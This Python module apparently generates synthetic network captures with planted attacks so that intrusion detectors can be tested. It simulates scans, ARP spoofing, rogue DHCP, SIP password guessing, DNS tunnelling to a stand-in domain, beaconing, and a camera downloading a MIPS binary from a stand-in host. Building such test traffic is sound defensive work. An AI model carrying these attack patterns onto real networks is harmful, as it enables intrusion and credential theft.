"""The attacks in the week capture, one of each type, each by a device without other alerts."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from pcaps import _office_traffic as office
from pcaps import _week_traffic as traffic
from pcaps._capture import CLIENT, SERVER, Host
from pcaps._frame_writer import PackedCapture
from pcaps._office_hosts import UDHCP, Device
from pcaps._week_hosts import Company

HOUR, DAY = 3600.0, 86400.0
LISTED = "203.0.113.66"
PORTS = (
    20, 21, 23, 25, 53, 69, 79, 88, 110, 111, 113, 119, 135, 139, 143, 161, 179, 199, 389, 443, 465, 512, 513, 514,
    548, 554, 587, 631, 873, 993, 995, 1025, 1433, 1521, 1723, 2049, 3306, 3389, 5432, 5900, 6000, 8080, 8443, 8888,
    9100, 9200,
)  # fmt: skip


@dataclass(frozen=True)
class Planted:
    """An attack of device ``index`` of ``group`` of the company, from ``at`` on for ``duration`` seconds. ``detector``:
    the detector that must raise an alert.
    """

    name: str
    detector: str
    group: str
    index: int
    at: float
    duration: float = HOUR


PLANTED = (
    Planted("port_scan", "discovery.port_scan", "workstations", 41, 1 * DAY + 10.3 * HOUR),
    Planted("address_scan", "discovery.address_scan", "workstations", 87, 1 * DAY + 14.1 * HOUR),
    Planted("camera_login", "lateral_movement.admin_from_device", "cameras", 6, 2 * DAY + 3.2 * HOUR),
    Planted("listed", "command_and_control.malicious_address", "cameras", 11, 2 * DAY + 11.5 * HOUR),
    Planted("beacon", "command_and_control.beaconing", "workstations", 133, 3 * DAY + 10 * HOUR, 4 * HOUR),
    Planted("registrations", "voice.registration_guessing", "phones", 12, 3 * DAY + 15.6 * HOUR),
    Planted("dns_tunnel", "command_and_control.dns_tunnel", "workstations", 164, 4 * DAY + 11.2 * HOUR, 2 * HOUR),
    Planted("rogue_dhcp", "credential_access.rogue_dhcp", "workstations", 210, 4 * DAY + 15.3 * HOUR),
    Planted("arp_spoof", "credential_access.arp_spoofing", "workstations", 250, 4 * DAY + 16.5 * HOUR),
    Planted("fan_out", "lateral_movement.fan_out", "workstations", 275, 4 * DAY + 17.5 * HOUR),
    Planted("loader", "lateral_movement.tool_transfer", "cameras", 20, 6 * DAY + 2.4 * HOUR),
)


class Attacks:
    """Generates the planted attacks by name."""

    def __init__(self, capture: PackedCapture, company: Company, cloud: Callable[[str], Host]) -> None:
        self.capture, self.company, self.cloud = capture, company, cloud

    def generate(self) -> None:
        for attack in PLANTED:
            getattr(self, attack.name)(attack.at, actor(self.company, attack))

    def gateway(self, host: Host) -> Host:
        return self.company.routers[host.vlan]

    def port_scan(self, at: float, host: Host) -> None:
        """46 ports of the intranet server, one of which is open."""
        for step, port in enumerate(PORTS):
            self.capture.probe(
                at + step * 0.08, host, self.company.servers["intranet"], port, "SA" if port == 443 else "RA"
            )

    def address_scan(self, at: float, host: Host) -> None:
        """SMB connection attempts to 120 addresses of the server subnet; most do not exist."""
        by_address = {server.ip: server for server in self.company.servers.values()}
        for last in range(1, 121):
            ip = f"10.30.50.{last}"
            target = by_address.get(ip) or Host(f"nobody-{last}", "", ip, remote=True, ttl=63)
            answer = "SA" if target.name.startswith("files") else "RA" if ip in by_address else ""
            self.capture.probe(at + last * 0.3, host, target, 445, answer)

    def camera_login(self, at: float, host: Host) -> None:
        office.smb_session(
            self.capture, at, host, self.company.servers["files02"], "finance", 9000, user="backup", windows=False
        )

    def listed(self, at: float, host: Host) -> None:
        """A connection to an address of the threat list, which responds."""
        peer, noise = Host("listed", "", LISTED, remote=True, ttl=47), host.rng.randbytes
        self.capture.tcp(
            at,
            host,
            peer,
            8443,
            [(CLIENT, b"\x01\0\0\x18" + noise(24)), (SERVER, b"\x02\0\0\x40" + noise(64)), (CLIENT, noise(200))],
        )

    def beacon(self, at: float, host: Host) -> None:
        """The same few bytes every two minutes, with two seconds of jitter, to an address without a DNS name."""
        peer, noise = Host("pulse", "", "203.0.113.90", remote=True, ttl=49), host.rng.randbytes
        for number in range(80):
            self.capture.tcp(
                at + number * 120 + host.rng.random() * 2,
                host,
                peer,
                443,
                [(CLIENT, b"\x17\x03\x03\x01\0" + noise(256)), (SERVER, noise(120))],
            )

    def registrations(self, at: float, host: Host) -> None:
        """Password guessing for an extension of the PBX, which rejects each attempt."""
        pbx, call = self.company.servers["pbx01"], host.rng.randbytes(6).hex()
        aor = f"<sip:2077@{pbx.ip}>"
        for number in range(1, 41):
            common = (
                f"Via: SIP/2.0/UDP {host.ip}:5060;branch=z9hG4bK{number:08x};rport\r\nFrom: "
                f"{aor};tag={call}\r\nTo: {aor}\r\n"
            )
            common += f"Call-ID: {call}-{number}@{host.ip}\r\nCSeq: {number} REGISTER\r\n"
            answer = f'uri="sip:{pbx.ip}",response="{host.rng.getrandbits(128):032x}",algorithm=MD5'
            digest = f'Digest username="2077",realm="asterisk",nonce="5f3c{number:04x}",{answer}'
            request = (
                f"REGISTER sip:{pbx.ip} SIP/2.0\r\n{common}Contact: "
                f"<sip:2077@{host.ip}:5060>\r\nAuthorization: {digest}\r\nContent-Length: 0\r\n\r\n"
            )
            self.capture.udp(at + number * 1.5, host, pbx, 5060, 5060, request.encode())
            self.capture.udp(
                at + number * 1.5 + 0.004,
                pbx,
                host,
                5060,
                5060,
                f"SIP/2.0 403 Forbidden\r\n{common}Content-Length: 0\r\n\r\n".encode(),
            )

    def dns_tunnel(self, at: float, host: Host) -> None:
        """Upstream data in query names, downstream data in TXT records."""
        for number in range(240):
            name = f"{host.rng.randbytes(24).hex()}.{host.rng.randbytes(20).hex()}.{number:04x}.t.cdn-metrics.example"
            traffic.lookup(
                self.capture,
                at + number * 0.7,
                host,
                self.gateway(host),
                name,
                None,
                16,
                host.rng.randbytes(90).hex().encode(),
            )

    def rogue_dhcp(self, at: float, host: Host) -> None:
        """A laptop serves leases and names itself as gateway; a client gets responses of both servers."""
        new = Host("PC-NEW", "88:b1:11:7e:01:f0", f"{host.ip.rpartition('.')[0]}.240", vlan=host.vlan, ttl=128)
        options = office.dhcp_options(new, parameters=UDHCP, vendor=b"MSFT 5.0", hostname="PC-NEW", size=0, fqdn=False)
        office.lease(self.capture, at, new, self.gateway(host), options)
        office.lease(self.capture, at + 30, new, host, options)

    def arp_spoof(self, at: float, host: Host) -> None:
        """A laptop repeatedly claims the address of the gateway to a victim, and the address of the victim to the
        gateway.
        """
        gateway = self.gateway(host)
        victim = next(
            device.host
            for device in self.company.workstations
            if device.host.vlan == host.vlan and device.host is not host
        )
        self.capture.arp(at - 100, victim, gateway)
        for step in range(60):
            self.capture.arp_reply(at + step * 2, host.mac, gateway.ip, victim)
            self.capture.arp_reply(at + step * 2 + 0.1, host.mac, victim.ip, gateway)
            if step % 5 == 0:
                self.capture.arp(at + step * 2 + 0.5, gateway, victim)
                self.capture.arp(at + step * 2 + 0.7, victim, gateway)

    def fan_out(self, at: float, host: Host) -> None:
        """RDP sessions to eight workstations in sequence."""
        others = [
            device.host
            for device in self.company.workstations
            if device.host.vlan == host.vlan and device.host is not host
        ]
        for step, other in enumerate(others[20:28]):
            self.capture.arp(at + step * 90 - 0.1, host, other)
            traffic.rdp(self.capture, at + step * 90, host, other)

    def loader(self, at: float, host: Host) -> None:
        """A camera downloads an ELF program for MIPS."""
        peer = Host("bins", "", "203.0.113.80", remote=True, ttl=48)
        request = b"GET /bins/lab.mips HTTP/1.0\r\nHost: 203.0.113.80\r\nUser-Agent: Wget\r\n\r\n"
        body = b"\x7fELF\x01\x02\x01" + bytes(2000)
        head = (
            f"HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        )
        self.capture.tcp(at, host, peer, 80, [(CLIENT, request), (SERVER, head + body)])


def actor(company: Company, attack: Planted) -> Host:
    """The host that acts."""
    devices: list[Device] = getattr(company, attack.group)
    return devices[attack.index].host
